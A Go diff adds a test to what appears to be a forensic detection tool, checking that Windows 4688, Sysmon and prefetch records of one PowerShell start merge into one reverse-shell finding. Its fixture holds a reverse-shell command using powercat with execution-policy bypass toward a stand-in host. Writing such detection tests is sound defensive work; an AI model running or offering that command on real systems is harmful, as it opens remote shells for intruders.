@@ -238,3 +238,53 @@ func TestEvidenceAndIncidents(t *testing.T) {
 		t.Error("a rerun of the analyzers changed the findings")
 	}
 }
+
+// TestSameStartRecordedTwice: a start logged by 4688, Sysmon 1 and prefetch
+// is one run and one finding citing every record; two starts in one log stay
+// two, however close.
+func TestSameStartRecordedTwice(t *testing.T) {
+	shell := `powershell  -Exec Bypass ". \"C:\TMP\nc.ps1\";powercat -c www.example.com -p 80 -t 2 -e cmd"`
+	at := func(e ev, ts string) ev { e.ts = ts; return e }
+	prefetch := ev{source: "prefetch", process: `\VOLUME{1}\WINDOWS\SYSTEM32\WINDOWSPOWERSHELL\V1.0\POWERSHELL.EXE`}
+	tests := []struct {
+		name     string
+		events   []ev
+		findings int // T1059.001 reverse-shell findings
+		evidence int // evidence rows of the first
+		night    string
+	}{
+		{"4688, sysmon 1 and prefetch of one start", []ev{
+			at(security4688(ps, cmd, shell), "2024-03-09T23:30:00.100Z"),
+			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.120Z"),
+			at(prefetch, "2024-03-09T23:30:00.130Z"),
+		}, 1, 2, "powershell.exe ran 1 time outside business hours"},
+		{"two starts in one log", []ev{
+			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.100Z"),
+			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.900Z"),
+		}, 2, 1, "powershell.exe ran 2 times outside business hours"},
+		{"records too far apart", []ev{
+			at(security4688(ps, cmd, shell), "2024-03-09T23:30:00Z"),
+			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:05Z"),
+		}, 2, 1, "powershell.exe ran 2 times outside business hours"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			db := newTimeline(t, tt.events)
+			if _, err := Run(context.Background(), db, Options{}); err != nil {
+				t.Fatal(err)
+			}
+			var n, evidence int
+			db.QueryRow(`SELECT count(*) FROM findings WHERE title = 'PowerShell reverse-shell'`).Scan(&n)
+			db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id =
+				(SELECT min(id) FROM findings WHERE title = 'PowerShell reverse-shell')`).Scan(&evidence)
+			if n != tt.findings || evidence != tt.evidence {
+				t.Errorf("%d reverse-shell findings with %d evidence rows, want %d with %d", n, evidence, tt.findings, tt.evidence)
+			}
+			var night string
+			db.QueryRow(`SELECT title FROM findings WHERE analyzer = 't1059-interpreters' AND title LIKE '%outside business hours%'`).Scan(&night)
+			if !strings.HasPrefix(night, tt.night) {
+				t.Errorf("out-of-hours finding %q, want it to start %q", night, tt.night)
+			}
+		})
+	}
+}
